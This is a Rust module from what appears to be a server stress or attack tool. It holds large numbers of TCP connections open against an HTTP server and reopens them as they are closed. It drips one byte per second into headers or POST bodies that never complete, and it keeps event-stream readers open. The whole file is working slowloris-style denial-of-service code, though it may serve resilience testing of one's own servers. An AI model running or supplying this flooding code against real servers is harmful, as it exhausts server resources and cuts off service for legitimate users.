//! Connections that are held: as many as were asked for, made anew when the server closes them, and a byte now and then.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use super::attack::{Attack, Kind};
use super::{End, socket};

/// Between two looks at all connections.
const ROUND: Duration = Duration::from_millis(200);
/// Connections that are made in a round: the server is to be flooded, not the queue of its listener.
const BEGUN_PER_ROUND_MAX: usize = 2000;
/// Between two bytes of a head or body that never ends.
const DRIP: Duration = Duration::from_secs(1);

/// What one connection does.
struct Script {
    /// What it sends at once.
    first: Vec<u8>,
    /// What it sends now and then.
    drip: &'static [u8],
    reads: bool,
}

struct Held {
    stream: TcpStream,
    script: Script,
    sent: usize,
    drips_at: Instant,
}

#[derive(Default)]
struct Count {
    begun: u64,
    closed: u64,
    read_bytes: u64,
}

pub(super) fn run(attack: &Attack, end: &End, say: &mut impl FnMut(&str)) -> io::Result<String> {
    let mut held: Vec<Held> = Vec::with_capacity(attack.count);
    let (mut count, mut is_told) = (Count::default(), false);
    while !end.has_come() {
        let round_ends = Instant::now() + ROUND;
        for _ in 0..BEGUN_PER_ROUND_MAX.min(attack.count - held.len()) {
            match socket::begin(attack.address, count.begun, attack.kind == Kind::Readers) {
                Ok(stream) => {
                    let script = script(attack, count.begun);
                    count.begun += 1;
                    held.push(Held { stream, script, sent: 0, drips_at: Instant::now() + DRIP });
                }
                // Of this round there is nothing more to be had: ports, or room in the server's queue.
                Err(error) if is_told || !held.is_empty() => {
                    let _ = error;
                    break;
                }
                Err(error) => return Err(error),
            }
        }
        let before = held.len();
        held.retain_mut(|one| one.go_on(&mut count));
        count.closed += (before - held.len()) as u64;
        let is_under_way = held.iter().all(|one| one.sent >= one.script.first.len());
        if !is_told && is_under_way && (held.len() >= attack.count || count.closed > 0) {
            is_told = true;
            say(&format!("flooding with {} connections", held.len()));
        }
        thread::sleep(round_ends.saturating_duration_since(Instant::now())); // the pace of the attack
    }
    let Count { begun, closed, read_bytes } = count;
    Ok(format!("begun={begun} closed={closed} open={} read_bytes={read_bytes}", held.len()))
}

impl Held {
    /// Answers whether the connection is still there.
    fn go_on(&mut self, count: &mut Count) -> bool {
        while self.sent < self.script.first.len() {
            match self.stream.write(&self.script.first[self.sent..]) {
                Ok(sent) => self.sent += sent,
                Err(error) if socket::is_not_yet(&error) => return true,
                Err(_) => return false,
            }
        }
        let now = Instant::now();
        if now >= self.drips_at && !self.script.drip.is_empty() {
            self.drips_at = now + DRIP;
            match self.stream.write(self.script.drip) {
                Ok(_) => {}
                Err(error) if socket::is_not_yet(&error) => {}
                Err(_) => return false,
            }
        }
        let mut room = [0; 16 * 1024];
        while self.script.reads {
            match self.stream.read(&mut room) {
                Ok(0) => return false,
                Ok(read) => count.read_bytes += read as u64,
                Err(error) if socket::is_not_yet(&error) => return true,
                Err(_) => return false,
            }
        }
        true
    }
}

fn script(attack: &Attack, number: u64) -> Script {
    let (target, address, bytes) = (attack.target(number), attack.address, attack.bytes);
    match attack.kind {
        Kind::Heads => {
            let mut first = format!("GET {target} HTTP/1.1\r\nHost: {address}\r\nX-Long: ");
            first.extend(std::iter::repeat_n('a', bytes.saturating_sub(first.len())));
            Script { first: first.into_bytes(), drip: b"a", reads: true }
        }
        Kind::Bodies => {
            let whole = bytes + BODY_REST;
            let head = format!("POST {target} HTTP/1.1\r\nHost: {address}\r\nContent-Length: {whole}\r\n\r\n");
            let first = [head.as_bytes(), &vec![b'x'; bytes]].concat();
            Script { first, drip: b"x", reads: true }
        }
        Kind::Selectors | Kind::Readers => {
            let first = format!("GET {target} HTTP/1.1\r\nHost: {address}\r\nAccept: text/event-stream\r\n\r\n");
            Script { first: first.into_bytes(), drip: b"", reads: attack.kind == Kind::Selectors }
        }
        _ => Script { first: Vec::new(), drip: b"", reads: true },
    }
}

/// What of a body never comes: more than is dripped in the longest attack.
const BODY_REST: usize = 1000;
